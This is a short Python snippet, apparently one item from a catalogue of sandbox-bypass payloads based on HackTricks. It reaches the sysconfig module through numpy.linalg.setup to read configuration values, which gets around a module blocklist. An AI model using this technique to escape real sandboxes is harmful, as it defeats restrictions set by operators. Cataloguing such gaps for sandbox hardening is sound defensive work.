# source: HackTricks 'Bypass Python sandboxes' (find a module that imports os/sys and reach it through an attribute); module table gap (submodule not imported when the table was generated)
# family: unlisted submodule numpy.linalg.setup exposing sysconfig
# goal: sysconfig module -> realpath/parse files
from numpy.linalg import setup as s
print(s.sysconfig)
print(s.sysconfig.get_config_var("prefix"))
